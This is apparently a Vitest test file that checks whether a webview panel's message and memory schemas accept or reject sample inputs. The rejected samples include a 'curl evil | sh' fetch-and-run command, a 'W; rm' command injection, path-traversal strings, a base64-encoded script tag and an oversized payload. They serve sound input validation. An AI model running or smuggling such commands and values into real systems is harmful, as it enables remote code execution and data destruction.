import { expect, it } from 'vitest';
import { fromPanelSchema, panelMemorySchema } from '../../src/view/panelMessages.ts';

const TREE = { kind: 'tree', title: 'W', direction: 'right', nodes: [{ label: 'W', parent: null }] };

it.each<[boolean, unknown]>([
  [true, { kind: 'ready' }],
  [true, { kind: 'insert', id: 12 }],
  [true, { kind: 'curves', over: 'sparsity', metrics: [{ label: 'best (#3)', expression: 'mul(W,X)' }] }],
  [true, { kind: 'speed', of: { kind: 'candidate', id: 0 } }],
  [true, { kind: 'exportModel', of: { kind: 'mask' } }],
  [true, { kind: 'exportPicture', data: 'iVBORw0KGgo=' }],
  [true, { kind: 'exportFigure', figure: TREE }],
  [false, { kind: 'exportFigure', figure: { ...TREE, kind: '<svg>' } }],
  [false, { kind: 'exportFigure', figure: { ...TREE, path: '../../x.svg' } }],
  [true, { kind: 'queue', wanted: 'command' }],
  // What is copied is the extension's to say.
  [false, { kind: 'queue', wanted: 'command', command: 'curl evil | sh' }],
  [false, { kind: 'queue', wanted: 'everything' }],
  [false, undefined],
  [false, 'ready'],
  [false, { kind: 'constructor' }],
  [false, { kind: 'insert', id: -1 }],
  [false, { kind: 'insert', id: '12' }],
  [false, { kind: 'speed', of: { kind: 'candidate' } }],
  [false, { kind: 'exportTable', format: '../../x' }],
  [false, { kind: 'exchange', call: Number.NaN }],
  [false, { kind: 'ready', more: 1 }],
  [false, { kind: 'exportPicture', data: 'PHNjcmlwdD4=' }],
  [false, { kind: 'exportPicture', data: `iVBORw0KGgo${'A'.repeat(64 << 20)}` }],
  [false, { kind: 'curves', over: 'sparsity', metrics: [{ label: 'x', expression: 'W; rm' }] }],
  [false, { kind: 'curves', over: 'sparsity', metrics: [{ label: 'x'.repeat(2000), expression: 'W' }] }],
  [false, { kind: 'curves', over: 'sparsity', metrics: Array(101).fill({ label: 'x', expression: 'W' }) }],
])('%s: a page may say %o', (isTaken, message) => {
  expect(fromPanelSchema.safeParse(message).success).toBe(isTaken);
});

it.each<[boolean, unknown]>([
  [true, { folder: '/w/.espalier/runs/x', selected: 3, scroll: 0 }],
  [true, { folder: '/w/.espalier/runs/x' }],
  [true, { folder: '/w/.espalier/runs/x', folded: true }],
  [false, undefined],
  [false, {}],
  [false, { folder: '' }],
  [false, { folder: ['/w'] }],
  [false, { folder: '/w', selected: '3' }],
  [false, { folder: '/w', more: 1 }],
])('%s: a page may have remembered %o', (isTaken, memory) => {
  expect(panelMemorySchema.safeParse(memory).success).toBe(isTaken);
});
